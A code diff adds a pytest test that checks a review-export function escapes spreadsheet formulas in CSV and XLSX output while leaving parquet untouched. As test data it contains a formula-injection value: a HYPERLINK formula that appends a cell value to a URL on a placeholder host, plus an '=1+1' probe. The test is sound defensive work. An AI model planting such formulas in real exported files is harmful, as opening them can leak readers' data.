@@ -32,3 +32,26 @@ def test_write_reviews_round_trip(tmp_path, loaded, suffix):
 def test_write_reviews_unknown_suffix(tmp_path, loaded):
     with pytest.raises(InputError, match=r"\[E102\]"):
         write_reviews(loaded.valid, tmp_path / "out.txt")
+
+
+def test_write_reviews_csv_and_xlsx_never_hold_a_formula(tmp_path):
+    """faults F13: cells starting '=' (a review_id, a learning text with =HYPERLINK) were written
+    as they were, so opening the de-identified file in Excel ran them."""
+    import csv
+
+    import openpyxl
+    import pandas as pd
+
+    from leder_insights.io import write_reviews
+
+    df = pd.DataFrame({"review_id": ["=1+1", "R2"],
+                       "learning": ['=HYPERLINK("http://example.invalid/?"&A2,"Read more")',
+                                    "- a listed point"]})
+    rows = list(csv.reader(open(write_reviews(df, tmp_path / "o.csv"), newline="")))
+    assert rows[1][0] == "'=1+1" and rows[1][1].startswith("'=HYPERLINK")
+    assert rows[2] == ["R2", "- a listed point"]
+    ws = openpyxl.load_workbook(write_reviews(df, tmp_path / "o.xlsx")).active
+    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
+    assert df.loc[0, "review_id"] == "=1+1"  # the caller's frame is not changed
+    back = pd.read_parquet(write_reviews(df, tmp_path / "o.parquet"))
+    assert back.loc[0, "review_id"] == "=1+1"  # not a spreadsheet format: kept as it is
